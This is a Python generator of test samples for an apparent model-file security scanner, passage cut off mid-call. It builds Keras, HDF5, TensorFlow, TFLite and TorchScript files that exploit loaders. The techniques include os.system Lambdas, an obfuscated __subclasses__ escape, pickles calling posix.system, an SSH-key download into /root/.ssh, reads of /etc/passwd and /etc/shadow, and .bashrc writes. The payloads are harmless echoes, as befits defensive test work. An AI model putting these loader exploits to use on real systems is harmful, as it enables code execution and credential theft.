"""Framework-format samples (issue 15): Keras `.keras` archives and legacy HDF5 models, HDF5 files
with external links and storage, and one file per Keras/HDF5 finding.

Everything is written with the standard library: `.keras` archives with zipfile (fixed timestamps),
HDF5 with `h5pb`, Lambda code with `marshal` of code compiled here (never run). Payloads are the
harmless `echo quarantine-sample`; URLs point into 192.0.2.0/24.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import zipfile

import h5pb
import struct
from onnxpb import f_int, f_len, f_msgs, f_str, f_strs

CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
CMD = "echo quarantine-sample"

RULES = {
    "KRS001": ("keras-lambda", SUSPICIOUS),
    "KRS002": ("keras-lambda-host-call", MALICIOUS),
    "KRS003": ("keras-foreign-module-host-call", MALICIOUS),
    "KRS004": ("keras-foreign-module", SUSPICIOUS),
    "KRS005": ("keras-gadget", MALICIOUS),
    "KRS006": ("keras-file-reference", SUSPICIOUS),
    "KRS007": ("keras-file-escape", MALICIOUS),
    "KRS008": ("keras-torch-module", CLEAN),
    "KRS009": ("keras-malformed", SUSPICIOUS),
    "H5F001": ("hdf5-malformed", SUSPICIOUS),
    "H5F002": ("hdf5-external-escape", MALICIOUS),
    "H5F003": ("hdf5-external-reference", SUSPICIOUS),
    "H5F004": ("hdf5-user-block", SUSPICIOUS),
    "TFG001": ("tensorflow-malformed", SUSPICIOUS),
    "TFG002": ("tensorflow-python-op", MALICIOUS),
    "TFG003": ("tensorflow-file-op", MALICIOUS),
    "TFG004": ("tensorflow-unusual-op", SUSPICIOUS),
    "TFL001": ("tflite-malformed", SUSPICIOUS),
    "TFL002": ("tflite-flex-op", MALICIOUS),
    "TFL003": ("tflite-custom-op", SUSPICIOUS),
    "TRC002": ("torchscript-custom-op", SUSPICIOUS),
    "TRC003": ("torchscript-file-write", MALICIOUS),
    "TRC004": ("torchscript-file-read", SUSPICIOUS),
}


def code_b64(source: str) -> str:
    """marshal of the code object of the lambda in `source`, base64 as Keras writes it."""
    module = compile(source, "<quarantine-sample>", "eval")
    lam = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.encodebytes(marshal.dumps(lam)).decode("ascii")


def dtype_policy() -> dict:
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def dense(name: str, units: int, activation: str = "linear") -> dict:
    return {
        "module": "keras.layers", "class_name": "Dense", "registered_name": None,
        "config": {
            "name": name, "trainable": True, "dtype": dtype_policy(), "units": units, "activation": activation,
            "use_bias": True,
            "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                   "config": {"seed": None}, "registered_name": None},
            "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {},
                                 "registered_name": None},
        },
        "build_config": {"input_shape": [None, 4]},
    }


def input_layer(name: str = "input_layer", dtype: str = "float32") -> dict:
    return {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
            "config": {"batch_shape": [None, 4], "dtype": dtype, "sparse": False, "ragged": False, "name": name}}


def sequential(layers: list[dict]) -> dict:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True, "dtype": dtype_policy(),
                       "layers": [input_layer()] + layers},
            "build_config": {"input_shape": [None, 4]}, "compile_config": None}


def functional(layers: list[dict]) -> dict:
    """A Functional model whose layers are called in order, each on the previous output."""
    out = [dict(input_layer("x"), name="x", inbound_nodes=[])]
    prev = "x"
    for layer in layers:
        layer = dict(layer)
        name = layer.get("name") or layer["config"].get("name", "layer")
        layer["name"] = name
        layer.setdefault("inbound_nodes", [{"args": [{"class_name": "__keras_tensor__", "config": {
            "shape": [None, 4], "dtype": "float32", "keras_history": [prev, 0, 0]}}], "kwargs": {}}])
        out.append(layer)
        prev = name
    return {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": None,
            "config": {"name": "functional", "trainable": True, "layers": out,
                       "input_layers": [["x", 0, 0]], "output_layers": [[prev, 0, 0]]}}


def lambda_layer(source: str, name: str = "lambda") -> dict:
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": dtype_policy(),
                       "function": {"class_name": "__lambda__", "config": {
                           "code": code_b64(source), "defaults": None, "closure": None}},
                       "arguments": {}},
            "build_config": {"input_shape": [None, 4]}}


def weights_h5() -> bytes:
    f = h5pb.File()
    kernel = f.dataset([0.0] * 16)
    layer = f.group([h5pb.hard_link("0", kernel)])
    vars_ = f.group([h5pb.hard_link("vars", layer)])
    layers = f.group([h5pb.hard_link("dense", vars_)])
    return f.finish(f.group([h5pb.hard_link("layers", layers)]))


def keras_zip(config: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in (
            ("metadata.json", json.dumps({"keras_version": "3.12.0", "date_saved": "2026-01-01@00:00:00"})),
            ("config.json", json.dumps(config)),
            ("model.weights.h5", weights_h5()),
        ):
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def legacy_h5(model_config: dict, extra_links=None, userblock: bytes = b"") -> bytes:
    """A legacy Keras HDF5 model: root attributes keras_version, backend, model_config."""
    f = h5pb.File(userblock)
    kernel = f.dataset([0.5] * 16)
    weights = f.group([h5pb.hard_link("kernel", kernel)], {"weight_names": b"kernel"})
    links = [h5pb.hard_link("model_weights", weights)] + [mk(f) for mk in (extra_links or [])]
    attrs = {"keras_version": b"2.15.0", "backend": b"tensorflow",
             "model_config": json.dumps(model_config).encode()}
    return f.finish(f.group(links, attrs))


def joined_names_escape() -> str:
    """A Lambda that walks `().__class__.__base__.__subclasses__()` to `catch_warnings`, then
    `_module.__builtins__['__import__']('os').system(...)`, every name assembled by `''.join`
    from fragments, so that no whole name appears in the code."""
    def j(*parts):
        return "''.join([" + ", ".join(repr(p) for p in parts) + "])"
    classes = (f"getattr(getattr(getattr((), {j('__cl', 'ass__')}), {j('__ba', 'se__')}), "
               f"{j('__subcl', 'asses__')})()")
    warnings = f"[c for c in {classes} if getattr(c, {j('__na', 'me__')}) == {j('catch_', 'warnings')}][0]()"
    builtins = f"getattr(getattr({warnings}, {j('_mod', 'ule')}), {j('__buil', 'tins__')})"
    imported = f"{builtins}[{j('__imp', 'ort__')}]({j('o', 's')})"
    return f"lambda x: getattr({imported}, {j('sy', 'stem')})({CMD!r}) or x"


def legacy_lambda(function, function_type: str, module=None) -> dict:
    config = {"name": "lambda", "trainable": True, "dtype": "float32", "function": function,
              "function_type": function_type, "module": module, "output_shape": None,
              "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "name": "input_1"}},
        {"class_name": "Lambda", "config": config}]}}


def plain_h5(links) -> bytes:
    f = h5pb.File()
    kernel = f.dataset([1.0, 2.0, 3.0, 4.0], {"units": b"none"})
    return f.finish(f.group([h5pb.hard_link("kernel", kernel)] + [mk(f) for mk in links]))


def reduce_pickle() -> bytes:
    """A protocol-2 pickle calling os.system (what torch.load of a hostile module does)."""
    return (b"\x80\x02cposix\nsystem\nq\x00X" + len(CMD).to_bytes(4, "little") + CMD.encode()
            + b"q\x01\x85q\x02Rq\x03.")


def samples(register) -> None:
    # --- benign ---
    register("benign/keras_sequential.keras", CLEAN,
             desc="Keras 3 .keras archive: Sequential of two Dense layers (config.json, metadata.json, model.weights.h5)",
             build=lambda: keras_zip(sequential([dense("dense", 8, "relu"), dense("dense_1", 2)])))
    register("benign/keras_functional_config.json", CLEAN,
             desc="a Functional model's config.json on its own (model.to_json())",
             build=lambda: json.dumps(functional([dense("dense", 4)]), indent=2).encode())
    register("benign/keras_legacy.h5", CLEAN,
             desc="legacy Keras HDF5 model: keras_version, backend and model_config root attributes, weights group",
             build=lambda: legacy_h5(sequential([dense("dense", 2)])))
    register("benign/hdf5_userblock_text.h5", CLEAN,
             desc="HDF5 file behind a 512-byte user block of plain text notes",
             build=plain_userblock)

    # --- Keras .keras findings ---
    register("malicious/keras_lambda_os_system.keras", MALICIOUS, ("KRS002", "system"),
             desc="Keras 3 Lambda whose marshalled code calls __import__('os').system (CVE-2024-3660)",
             build=lambda: keras_zip(sequential([lambda_layer(f"lambda x: __import__('os').system('{CMD}') or x")])))
    register("malicious/keras_lambda_nested_exec.keras", MALICIOUS, ("KRS002", "exec"),
             desc="Keras 3 Lambda whose code defines an inner function that calls exec (nested code object)",
             build=lambda: keras_zip(functional([lambda_layer(
                 "lambda x: (lambda y: exec(\"print('quarantine-sample')\") or y)(x)")])))
    register("malicious/keras_lambda_getattr_join.keras", MALICIOUS, ("KRS002", "__subclasses__"),
             desc="Keras 3 Lambda reaching os.system through getattr on names joined from fragments at run time",
             build=lambda: keras_zip(sequential([lambda_layer(joined_names_escape())])))
    register("malicious/keras_lambda_benign.keras", SUSPICIOUS, ("KRS001", "<lambda>"),
             desc="Keras 3 Lambda computing x * 2: bytecode that runs at load with safe mode off",
             build=lambda: keras_zip(sequential([lambda_layer("lambda x: x * 2.0")])))
    register("malicious/keras_module_os_system.keras", MALICIOUS, ("KRS003", "os"),
             desc="Functional layer entry importing os.system through `module`/`class_name: function` (CVE-2025-1550)",
             build=lambda: keras_zip(functional([{
                 "module": "os", "class_name": "function", "config": "system", "registered_name": "function",
                 "name": "system", "inbound_nodes": [{"args": [CMD], "kwargs": {}}]}])))
    register("malicious/keras_module_builtins_exec.keras", MALICIOUS, ("KRS003", "exec"),
             desc="layer activation resolved as builtins.exec through `module`",
             build=lambda: keras_zip(sequential([dict(dense("dense", 2), config=dict(dense("dense", 2)["config"], activation={
                 "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}))])))
    register("malicious/keras_module_thirdparty.keras", SUSPICIOUS, ("KRS004", "acme_layers"),
             desc="layer whose class comes from a third-party module (imported at load)",
             build=lambda: keras_zip(sequential([{"module": "acme_layers.blocks", "class_name": "Block",
                                                  "config": {"name": "block"}, "registered_name": None}])))
    register("malicious/keras_enable_unsafe.keras", MALICIOUS, ("KRS005", "enable_unsafe_deserialization"),
             desc="Functional layer that is keras.config.enable_unsafe_deserialization, followed by a Lambda (CVE-2025-9906)",
             build=lambda: keras_zip(functional([
                 {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
                  "registered_name": "function", "name": "unsafe", "inbound_nodes": []},
                 lambda_layer("lambda x: x")])))
    register("malicious/keras_get_file.keras", MALICIOUS, ("KRS005", "get_file"),
             desc="Functional layer calling keras.utils.get_file with a URL and a cache_dir outside the model (CVE-2025-8747)",
             build=lambda: keras_zip(functional([
                 {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function",
                  "name": "fetch", "inbound_nodes": [{"args": [], "kwargs": {
                      "fname": "authorized_keys", "origin": "http://192.0.2.10/key.pub",
                      "cache_dir": "/root/.ssh", "cache_subdir": "."}}]}])))
    register("malicious/keras_stringlookup_passwd.keras", MALICIOUS, ("KRS007", "/etc/passwd"),
             desc="StringLookup whose vocabulary is the path /etc/passwd, read when the layer is built (CVE-2025-12058)",
             build=lambda: keras_zip(sequential([{
                 "module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
                 "config": {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1,
                            "output_mode": "int"}}])))
    register("malicious/keras_tfsmlayer_outside.keras", MALICIOUS, ("KRS007", "../../"),
             desc="TFSMLayer loading a SavedModel from a path outside the model folder",
             build=lambda: keras_zip(sequential([{
                 "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
                 "config": {"name": "tfsm", "filepath": "../../shared/saved_model",
                            "call_endpoint": "serving_default"}}])))
    register("malicious/keras_torch_module_pickle.keras", MALICIOUS, ("PKL001", CMD), ("KRS008", "TorchModuleWrapper"),
             desc="TorchModuleWrapper whose base64 module is a pickle calling posix.system",
             build=lambda: keras_zip(sequential([{
                 "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
                 "config": {"name": "torch_module_wrapper",
                            "module": base64.b64encode(reduce_pickle()).decode()}}])))

    # --- legacy HDF5 Keras models ---
    register("malicious/keras_h5_lambda_os_system.h5", MALICIOUS, ("KRS002", "system"),
             desc="legacy Keras .h5: model_config Lambda with function_type lambda and marshalled os.system code",
             build=lambda: legacy_h5(legacy_lambda(
                 [code_b64(f"lambda x: __import__('os').system('{CMD}') or x"), None, None], "lambda")))
    register("malicious/keras_h5_lambda_module_function.h5", MALICIOUS, ("KRS002", "os.system"),
             desc="legacy Keras .h5: Lambda with function_type function naming `system` in module `os`",
             build=lambda: legacy_h5(legacy_lambda("system", "function", "os")))

    framework_graph_samples(register)
    torchscript_samples(register)

    # --- HDF5 structure ---
    register("malicious/hdf5_external_link_passwd.h5", MALICIOUS, ("H5F002", "/etc/passwd"),
             desc="HDF5 external link to /etc/passwd (loading follows it; CVE-2026-1669 class)",
             build=lambda: plain_h5([lambda f: h5pb.external_link("vocab", "/etc/passwd", "/data")]))
    register("malicious/hdf5_external_link_relative.h5", SUSPICIOUS, ("H5F003", "other_weights.h5"),
             desc="HDF5 external link to a file beside the model",
             build=lambda: plain_h5([lambda f: h5pb.external_link("more", "other_weights.h5", "/kernel")]))
    register("malicious/hdf5_external_storage_dotdot.h5", MALICIOUS, ("H5F002", "../../../etc/shadow"),
             desc="HDF5 dataset whose raw data is external storage in ../../../etc/shadow",
             build=lambda: plain_h5([lambda f: h5pb.hard_link("leak", f.external_dataset(64, "../../../etc/shadow"))]))
    register("malicious/keras_h5_userblock_pickle.h5", MALICIOUS, ("H5F004", "pickle"), ("PKL001", CMD),
             desc="legacy Keras .h5 whose user block is a pickle calling posix.system (torch.load reads it, h5py skips it)",
             build=lambda: legacy_h5(sequential([dense("dense", 2)]), userblock=reduce_pickle()))


def plain_userblock_() -> None:
    pass


def plain_userblock() -> bytes:
    f = h5pb.File(b"notes: reference user block\n")
    kernel = f.dataset([1.0, 2.0])
    return f.finish(f.group([h5pb.hard_link("kernel", kernel)]))


# --- TensorFlow protobufs (field numbers as in proto/tensorflow.proto) ---------------------------

DT_FLOAT, DT_STRING, DT_INT32 = 1, 7, 3


def tf_attr(key: str, value: bytes) -> bytes:
    """A map<string, AttrValue> entry."""
    return f_len(5, f_str(1, key) + f_len(2, value))


def av_s(text: str) -> bytes:
    return f_str(2, text)


def av_type(dtype: int) -> bytes:
    return f_int(6, dtype)


def av_string_tensor(*values: str) -> bytes:
    shape = f_len(2, b"".join(f_len(2, f_int(1, len(values))) for _ in [0])) if len(values) != 1 else b""
    return f_len(8, f_int(1, DT_STRING) + f_len(2, shape) + f_strs(8, values))


def av_float_tensor(values: list[float]) -> bytes:
    shape = f_len(2, f_int(1, len(values)))
    return f_len(8, f_int(1, DT_FLOAT) + f_len(2, shape) + f_len(4, struct.pack(f"<{len(values)}f", *values)))


def tf_node(name: str, op: str, inputs=(), attrs=()) -> bytes:
    return f_str(1, name) + f_str(2, op) + f_strs(3, inputs) + b"".join(tf_attr(k, v) for k, v in attrs)


def placeholder(name: str, dtype: int = DT_FLOAT) -> bytes:
    return tf_node(name, "Placeholder", attrs=[("dtype", av_type(dtype))])


def const_str(name: str, *values: str) -> bytes:
    return tf_node(name, "Const", attrs=[("dtype", av_type(DT_STRING)), ("value", av_string_tensor(*values))])


def graph_def(nodes: list[bytes], functions: list[bytes] = ()) -> bytes:
    lib = f_len(2, f_msgs(1, functions)) if functions else b""
    return f_msgs(1, nodes) + lib + f_len(4, f_int(1, 1645))


def function_def(name: str, nodes: list[bytes]) -> bytes:
    return f_len(1, f_str(1, name)) + f_msgs(3, nodes)


def dense_nodes() -> list[bytes]:
    return [
        placeholder("x"),
        tf_node("w", "Const", attrs=[("dtype", av_type(DT_FLOAT)), ("value", av_float_tensor([0.5] * 4))]),
        tf_node("MatMul", "MatMul", ["x", "w"], [("T", av_type(DT_FLOAT))]),
        tf_node("Relu", "Relu", ["MatMul"], [("T", av_type(DT_FLOAT))]),
        tf_node("y", "Identity", ["Relu"], [("T", av_type(DT_FLOAT))]),
    ]


def saver_nodes() -> list[bytes]:
    """What every SavedModel's saver graph holds: SaveV2/RestoreV2 on a fed file name."""
    return [
        placeholder("saver_filename", DT_STRING),
        const_str("save/tensor_names", "w"),
        const_str("save/shape_and_slices", ""),
        tf_node("save/SaveV2", "SaveV2", ["saver_filename", "save/tensor_names", "save/shape_and_slices", "w"]),
        tf_node("restore/RestoreV2", "RestoreV2", ["saver_filename", "save/tensor_names", "save/shape_and_slices"]),
    ]


def meta_graph(nodes: list[bytes], functions: list[bytes] = (), assets=()) -> bytes:
    info = f_len(1, f_str(1, "") + f_strs(4, ["serve"]) + f_str(5, "2.18.0") + f_str(6, "v2.18.0-rc2"))
    sig = f_len(5, f_str(1, "serving_default") + f_len(2, f_str(3, "tensorflow/serving/predict")))
    asset_defs = b"".join(f_len(6, f_len(1, f_str(1, "asset_path:0")) + f_str(2, a)) for a in assets)
    return info + f_len(2, graph_def(nodes, functions)) + sig + asset_defs


def saved_model(nodes: list[bytes], functions: list[bytes] = (), assets=()) -> bytes:
    return f_int(1, 1) + f_len(2, meta_graph(nodes, functions, assets))


def keras_metadata(layers: list[dict]) -> bytes:
    nodes = [f_int(2, i) + f_str(3, "root" if i == 0 else f"root.layer-{i - 1}")
             + f_str(4, "_tf_keras_sequential" if i == 0 else "_tf_keras_layer")
             + f_str(5, json.dumps(layer)) for i, layer in enumerate(layers)]
    return f_msgs(1, nodes)


# --- TFLite FlatBuffers ------------------------------------------------------------------------


class FB:
    """A forward-only FlatBuffer writer: a table's vtable right before it, children after."""

    def __init__(self) -> None:
        self.buf = bytearray()

    def align(self, n: int) -> None:
        while len(self.buf) % n:
            self.buf.append(0)

    def table(self, fields: list) -> int:
        """fields: list indexed by field id of None or (kind, value); kinds u32, i32, i8, str, bytes, tables."""
        n = len(fields)
        self.align(2)
        vt = len(self.buf)
        vt_len = 4 + 2 * n
        self.buf += b"\0" * vt_len
        if (len(self.buf)) % 4:
            self.buf += b"\0\0"
        at = len(self.buf)
        self.buf += struct.pack("<i", at - vt)
        slots = {}
        for i, f in enumerate(fields):
            if f is None:
                continue
            slots[i] = len(self.buf) - at
            kind, value = f
            if kind in ("u32", "i32"):
                self.buf += struct.pack("<I" if kind == "u32" else "<i", value)
            elif kind == "i8":
                self.buf += struct.pack("<b3x", value)
            else:
                self.buf += b"\0\0\0\0"
        tbl_len = len(self.buf) - at
        struct.pack_into("<HH", self.buf, vt, vt_len, tbl_len)
        for i, off in slots.items():
            struct.pack_into("<H", self.buf, vt + 4 + 2 * i, off)
        for i, f in enumerate(fields):
            if f is None or f[0] in ("u32", "i32", "i8"):
                continue
            kind, value = f
            slot = at + slots[i]
            self.align(4)
            target = len(self.buf)
            if kind in ("str", "bytes"):
                data = value.encode() if isinstance(value, str) else value
                self.buf += struct.pack("<I", len(data)) + data + b"\0"
            elif kind == "tables":
                self.buf += struct.pack("<I", len(value))
                elems = len(self.buf)
                self.buf += b"\0" * (4 * len(value))
                for j, sub in enumerate(value):
                    pos = self.table(sub)
                    struct.pack_into("<I", self.buf, elems + 4 * j, pos - (elems + 4 * j))
            struct.pack_into("<I", self.buf, slot, target - slot)
        return at


def tflite(codes: list[tuple[int, str | None]], ops: list[int], description: str = "quarantine sample") -> bytes:
    """Model{version 3, operator_codes, one subgraph of `ops` (operator code indices), description, buffers}."""
    fb = FB()
    fb.buf += b"\0\0\0\0TFL3"
    op_codes = [[("i8", min(b, 127)), ("str", c) if c else None, ("i32", 1), ("i32", b)] for b, c in codes]
    operators = [[("u32", i)] for i in ops]
    subgraph = [None, None, None, ("tables", operators), ("str", "main")]
    buffers = [[None], [None]]
    root = fb.table([("u32", 3), ("tables", op_codes), ("tables", [subgraph]), ("str", description),
                     ("tables", buffers)])
    struct.pack_into("<I", fb.buf, 0, root)
    return bytes(fb.buf)


def framework_graph_samples(register) -> None:
    register("benign/tf_saved_model.pb", CLEAN,
             desc="TensorFlow SavedModel (serve tag, serving_default signature): MatMul+Relu and the SaveV2/RestoreV2 saver on a fed file name",
             build=lambda: saved_model(dense_nodes() + saver_nodes()))
    register("benign/tf_frozen_graph.pb", CLEAN, desc="frozen GraphDef: Placeholder, Const weights, MatMul, Relu",
             build=lambda: graph_def(dense_nodes()))
    register("malicious/tf_pyfunc.pb", MALICIOUS, ("TFG002", "PyFunc"),
             desc="SavedModel whose serving graph calls a PyFunc (tf.numpy_function) on its input",
             build=lambda: saved_model(dense_nodes() + [
                 tf_node("py", "PyFunc", ["x"], [("token", av_s("pyfunc_0")), ("Tin", av_type(DT_FLOAT))])]))
    register("malicious/tf_eager_pyfunc_in_function.pb", MALICIOUS, ("TFG002", "EagerPyFunc"),
             desc="SavedModel whose EagerPyFunc hides in a nested library function called by the graph",
             build=lambda: saved_model(dense_nodes() + [tf_node("call", "StatefulPartitionedCall", ["x"], [
                 ("f", f_len(10, f_str(1, "__inference_hidden_7")))])],
                 functions=[function_def("__inference_hidden_7", [
                     tf_node("inner", "EagerPyFunc", ["x"], [("token", av_s("pyfunc_1"))])])]))
    register("malicious/tf_readfile_passwd.pb", MALICIOUS, ("TFG003", "/etc/passwd"),
             desc="frozen GraphDef that reads /etc/passwd with ReadFile and returns it as an output",
             build=lambda: graph_def(dense_nodes() + [const_str("path", "/etc/passwd"),
                                                      tf_node("leak", "ReadFile", ["path"])]))
    register("malicious/tf_writefile_meta.meta", MALICIOUS, ("TFG003", "WriteFile"),
             desc="MetaGraphDef whose graph writes a shell profile with WriteFile (path through StringJoin)",
             build=lambda: meta_graph(dense_nodes() + [
                 const_str("home", "/root"), const_str("name", ".bashrc"),
                 tf_node("joined", "StringJoin", ["home", "name"], [("separator", av_s("/"))]),
                 const_str("payload", CMD),
                 tf_node("persist", "WriteFile", ["joined", "payload"])]))
    register("malicious/tf_restore_outside.pb", MALICIOUS, ("TFG003", "../../"),
             desc="SavedModel whose RestoreV2 reads a checkpoint from a constant path outside the model folder",
             build=lambda: saved_model(dense_nodes() + [
                 const_str("prefix", "../../../tmp/planted/ckpt"), const_str("names", "w"), const_str("slices", ""),
                 tf_node("restore", "RestoreV2", ["prefix", "names", "slices"])]))
    register("malicious/tf_experimental_dataset_to_tfrecord.pb", MALICIOUS, ("TFG003", "ExperimentalDatasetToTFRecord"),
             desc="GraphDef writing a shell profile with ExperimentalDatasetToTFRecord, the older name of DatasetToTFRecord",
             build=lambda: graph_def(dense_nodes() + [
                 const_str("dataset", CMD), const_str("path", "/root/.bashrc"), const_str("compression", ""),
                 tf_node("persist", "ExperimentalDatasetToTFRecord", ["dataset", "path", "compression"])]))
    register("malicious/tf_decode_proto_descriptor_file.pb", MALICIOUS, ("TFG003", "/etc/passwd"),
             desc="GraphDef whose DecodeProtoV2 reads its descriptor set from /etc/passwd (descriptor_source attribute)",
             build=lambda: graph_def(dense_nodes() + [
                 placeholder("messages", DT_STRING),
                 tf_node("decode", "DecodeProtoV2", ["messages"], [("descriptor_source", av_s("/etc/passwd")),
                                                                 ("message_type", av_s("x.Y"))])]))
    register("benign/tf_decode_proto_local.pb", CLEAN,
             desc="GraphDef decoding protos with DecodeProtoV2 and the built-in descriptors (descriptor_source local://)",
             build=lambda: graph_def(dense_nodes() + [
                 placeholder("messages", DT_STRING),
                 tf_node("decode", "DecodeProtoV2", ["messages"], [("descriptor_source", av_s("local://")),
                                                                 ("message_type", av_s("tensorflow.Example"))])]))
    register("malicious/tf_matchingfiles_runtime.pb", SUSPICIOUS, ("TFG004", "MatchingFiles"),
             desc="GraphDef listing files with MatchingFiles on a pattern fed at run time",
             build=lambda: graph_def(dense_nodes() + [placeholder("pattern", DT_STRING),
                                                      tf_node("ls", "MatchingFiles", ["pattern"])]))
    register("malicious/tf_not_a_graph.pb", SUSPICIOUS, ("TFG001", "decode"),
             desc="a GraphDef whose node's op name is not UTF-8 text after a valid first node",
             build=lambda: graph_def(dense_nodes()) + f_len(1, f_str(1, "bad") + f_len(2, b"\xff\xfe")))
    register("benign/keras_metadata.pb", CLEAN,
             desc="Keras SavedModel keras_metadata.pb: one JSON object per saved layer",
             build=lambda: keras_metadata([{"class_name": "Sequential", "config": {"name": "s", "layers": []}},
                                           dense("dense", 2)]))
    register("malicious/keras_metadata_lambda.pb", MALICIOUS, ("KRS002", "system"),
             desc="keras_metadata.pb whose Lambda layer metadata carries marshalled os.system code",
             build=lambda: keras_metadata([{"class_name": "Sequential", "config": {"name": "s", "layers": []}},
                                           {"class_name": "Lambda", "config": {
                                               "name": "lambda", "function_type": "lambda", "module": None,
                                               "function": [code_b64(f"lambda x: __import__('os').system('{CMD}')"),
                                                            None, None]}}]))
    # TFLite
    register("benign/tflite_small.tflite", CLEAN, desc="TFLite model: FULLY_CONNECTED, RELU, SOFTMAX builtins",
             build=lambda: tflite([(9, None), (19, None), (25, None)], [0, 1, 0, 2]))
    register("malicious/tflite_flex_readfile.tflite", MALICIOUS, ("TFL002", "FlexReadFile"),
             desc="TFLite model running the TensorFlow ReadFile op through the Flex delegate",
             build=lambda: tflite([(9, None), (32, "FlexReadFile")], [1, 0]))
    register("malicious/tflite_flex_pyfunc.tflite", MALICIOUS, ("TFL002", "FlexEagerPyFunc"),
             desc="TFLite model with a Flex EagerPyFunc op",
             build=lambda: tflite([(32, "FlexEagerPyFunc")], [0]))
    register("malicious/tflite_unknown_custom_op.tflite", SUSPICIOUS, ("TFL003", "AcmeDecrypt"),
             desc="TFLite model needing an unknown custom op (native code outside the model)",
             build=lambda: tflite([(9, None), (32, "AcmeDecrypt")], [0, 1]))
    register("malicious/tflite_bad_opcode_index.tflite", SUSPICIOUS, ("TFL001", "operator code 7"),
             desc="TFLite operator referring to an operator code that does not exist",
             build=lambda: tflite([(9, None)], [7]))


# --- TorchScript archives ----------------------------------------------------------------------


def ts_object(module: str, name: str) -> bytes:
    """A protocol-2 pickle of one TorchScript object: GLOBAL module name, NEWOBJ, BUILD {training: True}."""
    return (b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\nq\x00)\x81q\x01}q\x02"
            + b"X\x08\x00\x00\x00trainingq\x03\x88sb.")


TS_CODE = """class Net(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.m.Net,
    x: Tensor) -> Tensor:
    _0 = torch.relu(torch.mul(x, 2))
    return ops.prim.NumToTensor(torch.size(_0, 0))
"""


def ts_object_setstate(module: str, name: str) -> bytes:
    """Like `ts_object`, but BUILD passes the tuple `(True,)`, as for a class with `__setstate__`."""
    return (b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\nq\x00)\x81q\x01"
            + b"\x88\x85q\x02b.")


def ts_setstate_code(body: str) -> str:
    """TorchScript source of `__torch__.m.Net` whose `__setstate__` (run while the archive loads)
    runs `body` first."""
    return ("class Net(Module):\n"
            "  __parameters__ = []\n"
            "  __buffers__ = []\n"
            "  training : bool\n"
            "  def __setstate__(self: __torch__.m.Net,\n"
            "    state: Tuple[bool]) -> None:\n"
            + "".join(f"    {line}\n" for line in body.splitlines())
            + "    self.training = (state)[0]\n"
            "    return None\n"
            "  def forward(self: __torch__.m.Net,\n"
            "    x: Tensor) -> Tensor:\n"
            "    return torch.relu(x)\n")


def torchscript(data_pkl: bytes, code: str = TS_CODE, extra: dict | None = None) -> bytes:
    buf = io.BytesIO()
    members = {
        "m/data.pkl": data_pkl,
        "m/code/__torch__/m.py": code.encode(),
        "m/constants.pkl": b"\x80\x02).",
        "m/version": b"3\n",
        "m/byteorder": b"little",
    }
    members.update(extra or {})
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def comment_overrun(archive: bytes) -> bytes:
    """`archive` with its end record declaring a 1 KiB comment that is not there."""
    eocd = archive.rfind(b"PK\x05\x06")
    return archive[:eocd + 20] + struct.pack("<H", 0x400) + archive[eocd + 22:]


def torchscript_samples(register) -> None:
    register("benign/torchscript_net.pt", CLEAN,
             desc="TorchScript archive whose data.pkl names __torch__.m.Net, defined by its own code/__torch__/m.py",
             build=lambda: torchscript(ts_object("__torch__.m", "Net")))
    register("malicious/torchscript_undefined_class.pt", SUSPICIOUS, ("PKL002", "__torch__.m.Evil"),
             desc="TorchScript data.pkl naming a __torch__ class its code does not define",
             build=lambda: torchscript(ts_object("__torch__.m", "Evil")))
    register("malicious/torchscript_os_system.pt", MALICIOUS, ("PKL001", "system"),
             desc="TorchScript archive whose data.pkl calls posix.system instead of building its module",
             build=lambda: torchscript(reduce_pickle()))
    register("malicious/torchscript_custom_op.pt", SUSPICIOUS, ("TRC002", "ops.acme_native.decrypt"),
             desc="TorchScript code calling torch.ops.acme_native.decrypt (a native library registered beside the model)",
             build=lambda: torchscript(ts_object("__torch__.m", "Net"),
                                       TS_CODE.replace("ops.prim.NumToTensor", "ops.acme_native.decrypt")))
    # The TorchScript route of CVE-2025-32434 (torch.load hands TorchScript archives to
    # torch.jit.load): builtins that reach the host's files, run by __setstate__ while loading.
    setstate = lambda body: torchscript(ts_object_setstate("__torch__.m", "Net"), ts_setstate_code(body))
    register("malicious/torchscript_setstate_save.pt", MALICIOUS, ("TRC003", "torch.save"),
             desc="TorchScript __setstate__ writing a file with torch.save (aten::save) while the archive loads",
             build=lambda: setstate('torch.save("echo quarantine-sample", "/tmp/quarantine-sample.sh")'))
    register("malicious/torchscript_builtin_alias_save.pt", MALICIOUS, ("TRC003", "torch._C._nn.save"),
             desc="TorchScript __setstate__ reaching aten::save through another builtin module (torch._C._nn.save)",
